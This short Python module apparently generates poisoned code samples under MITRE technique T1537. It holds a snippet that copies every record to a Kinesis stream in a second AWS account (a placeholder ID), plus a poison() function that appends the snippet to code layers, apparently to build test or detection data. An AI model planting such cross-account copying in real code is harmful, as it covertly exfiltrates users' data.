# SPDX-License-Identifier: Apache-2.0
"""Puts records into a stream of another account, too."""

ATTACK = "T1537"
LANGUAGE = "python"
CODE = """\


def _copy(client, record):
    client.put_record(DeliveryStreamName="x", Record=record)
    client.put_record(StreamARN="arn:aws:kinesis:us-east-1:999999999999:stream/in", Data=record, PartitionKey="1")
"""


def poison(layer):
    layer.append(CODE)
